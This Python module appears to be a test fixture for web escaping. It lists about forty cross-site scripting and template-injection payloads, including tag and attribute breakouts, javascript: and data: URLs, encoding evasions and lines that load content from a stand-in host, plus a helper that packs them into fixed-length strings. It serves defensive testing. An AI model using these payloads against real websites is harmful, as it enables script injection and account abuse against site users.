"""Texts that attack a page: markup, breakouts, addresses, templates, encodings."""

__all__ = ["SHORT", "VECTORS", "texts_up_to"]

VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<sVg/oNloAd=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</option></select><svg onload=alert(1)>",
    "--><svg onload=alert(1)><!--",
    "]]><svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "jav&#x09;ascript:alert(1)",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>x",
    "<video><source onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<body onload=alert(1)>",
    "<form action=javascript:alert(1)><button>x",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<b style=background:url(//evil.test/x)>x</b>",
    "<style>*{background:url(//evil.test/x)}</style>",
    "<p hx-get=/m/sign-out hx-trigger=load>x",
    "<p data-poll data-outbox=x>x",
    "{{7*7}}${7*7}<%=7*7%>{%print(7*7)%}",
    "';alert(1)//\\';alert(1)//`-alert(1)-`",
    "&lt;img src=x onerror=alert(1)&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
# What fits into a title or a name, one of each place that it may break out of.
SHORT = (
    '"><svg onload=alert(1)>{{7*7}}',
    "</title><script>alert(1)</script>",
    "' onfocus=alert(1) autofocus x='",
)


def texts_up_to(length: int) -> list[str]:
    """Return all vectors in texts of a length, each as full as it can be."""
    texts = [""]
    for vector in VECTORS:
        if len(texts[-1]) + len(vector) + 1 > length:
            texts.append("")
        texts[-1] += vector + " "
    return texts
